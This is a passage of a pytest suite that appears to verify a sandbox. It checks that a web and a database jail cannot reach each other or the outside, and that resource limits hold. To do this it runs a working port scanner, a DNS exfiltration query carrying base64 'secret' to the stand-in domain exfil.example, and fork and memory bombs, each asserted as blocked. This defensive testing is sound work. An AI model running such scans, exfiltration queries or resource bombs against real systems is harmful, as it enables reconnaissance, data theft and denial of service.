                             f"{HOST_PORT}), 3); print(s.recv(6).decode())\"") == "hello", "control from the host"
    host.run(f"sed -i '/^tcp/d' {listeners['host']}")
    result = shell.py(f"attempt('tcp', lambda: connect('{BRIDGE_IP}', {HOST_PORT}))")
    blocked(result, "tcp", "timeout")
    assert seen(host, listeners["host"]) == []


@pytest.mark.parametrize("port", DB_EXTRA_PORTS)
def test_db_jail_is_unreachable_on_any_port_but_postgresql(host, shell, listeners, port):
    result = shell.py(f"attempt('tcp', lambda: connect('{DB_IP}', {port}))")
    blocked(result, "tcp", "timeout")
    assert not [line for line in seen(host, listeners["db"]) if f":{port} " in line]
    # control: the service is there (from inside the db jail's own network namespace)
    _, _, daemons = jail_pids(host, DB)
    assert host.run(f"nsenter -t {daemons[0]} -n python3 -c \"import socket; "
                    f"socket.create_connection(('{DB_IP}', {port}), 3)\"").rc == 0


SCAN = r'''
import selectors
def scan(addr, ports, wait=2.0):
    """Non-blocking connects, 200 at a time: open (handshake done), refused (RST: a reachable
    address with no listener) or filtered (no answer: dropped by the firewall)."""
    found = {"open": [], "refused": [], "filtered": []}
    for start in range(0, len(ports), 200):
        selector, sockets = selectors.DefaultSelector(), []
        for port in ports[start:start + 200]:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((addr, port))
            selector.register(s, selectors.EVENT_WRITE, port)
            sockets.append(s)
        pending, deadline = len(sockets), time.monotonic() + wait
        while pending and time.monotonic() < deadline:
            for key, _ in selector.select(max(0.0, deadline - time.monotonic())):
                error = key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                found["open" if error == 0 else "refused" if error == errno.ECONNREFUSED else "filtered"].append(key.data)
                selector.unregister(key.fileobj)
                pending -= 1
        for key in list(selector.get_map().values()):
            found["filtered"].append(key.data)
        for s in sockets:
            s.close()
    return {state: sorted(ports) for state, ports in found.items()}
'''
SCANNED_PORTS = list(range(1, 1025)) + [3306, 5433, 6379, 8000, 8080, 8081, 8443, 9000, 11211, 27017]


def test_a_port_scan_of_the_db_jail_finds_postgresql_only(shell):
    """1,034 ports of the db jail scanned from the web jail: PostgreSQL answers, every other port
    is silently dropped by the firewall (a refused one would mean the packet reached the jail)."""
    result = shell.py(SCAN + f"attempt('scan', lambda: scan('{DB_IP}', {SCANNED_PORTS + [5432]!r}))")
    assert result["scan"]["ok"], result["scan"]
    found = result["scan"]["value"]
    print(f"scan of {DB_IP}: open {found['open']}, refused {len(found['refused'])}, "
          f"filtered {len(found['filtered'])}")
    assert found["open"] == [5432], found["open"]
    assert found["refused"] == [], f"ports that reached the db jail: {found['refused'][:20]}"
    assert len(found["filtered"]) == len(SCANNED_PORTS)


def test_db_jail_cannot_reach_the_web_jail(host, root_entry):
    """The declared flow is web -> db:5432 only; root in the db jail cannot open the reverse."""
    result = as_root(host, f"attempt('http', lambda: connect('{WEB_IP}', 80))\n"
                           f"attempt('https', lambda: connect('{WEB_IP}', 443))", jail=DB)
    blocked(result, "http", "timeout")
    blocked(result, "https", "timeout")


def test_outside_is_unreachable_when_egress_is_denied(host, shell, listeners):
    assert VARS.get("bridge_egress_policy") == "deny", "this suite expects the lab's egress policy deny"
    assert host.check_output(f"python3 -c \"import socket; s=socket.create_connection(('{OUT_IP}', 443), 3); "
                             "print(s.recv(6).decode())\"") == "hello", "control: the host reaches the outside"
    host.run(f"sed -i '/^tcp/d' {listeners['out']}")
    result = shell.py(f"attempt('https', lambda: connect('{OUT_IP}', 443))\n"
                      f"attempt('http', lambda: connect('{OUT_IP}', 80))")
    blocked(result, "https", "timeout")
    blocked(result, "http", "timeout")
    assert seen(host, listeners["out"]) == []


DNS = r'''
query = bytes.fromhex('abcd01000001000000000000') + b''.join(
    bytes([len(p)]) + p.encode() for p in 'c2VjcmV0.exfil.example'.split('.')) + b'\x00\x00\x10\x00\x01'
for label, addr in (('outside', '@OUT@'), ('bridge', '@BRIDGE@')):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    def ask(s=s, addr=addr):
        s.sendto(query, (addr, 53))
        return s.recvfrom(512)[0].hex()
    attempt('udp_' + label, ask)
attempt('tcp_outside', lambda: connect('@OUT@', 53))
'''


def test_dns_exfiltration_is_blocked(host, shell, listeners):
    for log in (listeners["out"], listeners["host"]):
        host.run(f"sed -i '/^udp/d;/^tcp/d' {log}")
    result = shell.py(DNS.replace("@OUT@", OUT_IP).replace("@BRIDGE@", BRIDGE_IP))
    blocked(result, "udp_outside", "timeout")
    blocked(result, "udp_bridge", "timeout")
    blocked(result, "tcp_outside", "timeout")
    time.sleep(1)
    assert seen(host, listeners["out"]) == [] and seen(host, listeners["host"]) == [], "a query got out"
    # control: the listeners do answer (from the host)
    host.run_expect([0], f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                         f"s.sendto(b'control', ('{OUT_IP}', 53))\"")
    wait_until(lambda: seen(host, listeners["out"]), timeout=5)


# --------------------------------------------------------------------------- resources


def test_fork_bomb_stops_at_the_jail_process_limit(host, shell):
    """www-data forks until the kernel refuses (rlimit-nproc of the jail); the host keeps forking."""
    _, _, (parent, *_) = jail_pids(host, WEB)
    limit = [line.split()[2] for line in host.check_output(f"cat /proc/{parent}/limits").splitlines()
             if line.startswith("Max processes")][0]
    assert limit.isdigit() and int(limit) <= 1024, f"no real process limit on the web jail: {limit}"
    code = r'''
kids = []
def bomb():
    while len(kids) < 100000:
        pid = os.fork()
        if pid == 0:
            time.sleep(4); os._exit(0)
        kids.append(pid)
attempt('fork', bomb)
out['forked'] = len(kids)
out['host_ok'] = True
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
'''
    result = shell.py(code)
    blocked(result, "fork", "EAGAIN")
    assert result["forked"] < int(limit), result["forked"]
    host.run_expect([0], "sh -c true")  # the host still forks
    assert host.run("systemctl is-system-running").stdout.strip() in ("running", "degraded")


def test_memory_bomb_stops_at_the_jail_address_space_limit(host, shell):
    """www-data allocates 4 GiB; rlimit-as of the jail refuses it; the host's memory is untouched."""
    _, _, (parent, *_) = jail_pids(host, WEB)
    limit = [line.split()[3] for line in host.check_output(f"cat /proc/{parent}/limits").splitlines()
             if line.startswith("Max address space")][0]
    assert limit.isdigit(), f"no address space limit on the web jail: {limit}"
    available = int(host.check_output("awk '/MemAvailable/ {print $2}' /proc/meminfo"))
    result = shell.py("attempt('alloc', lambda: len(bytearray(4 << 30)))\n"
                      "attempt('mmap', lambda: __import__('mmap').mmap(-1, 4 << 30).close())")
    blocked(result, "alloc", "MemoryError")
    blocked(result, "mmap", "ENOMEM")
    after = int(host.check_output("awk '/MemAvailable/ {print $2}' /proc/meminfo"))
    assert after > available - 512 * 1024, "the host lost memory"


def test_the_site_still_serves_after_the_battery(host, shell):
    """Not an attempt: the battery leaves the host as it found it, serving."""
    wait_until(lambda: shell.sh("echo ok")[1] == "ok\n", timeout=30)
    status = host.run(f"curl -s -o /dev/null -w '%{{http_code}}' -H 'Host: {SERVER_NAME}' "
                      f"http://{public_address(host)}/health.txt")
    assert status.stdout == "200"
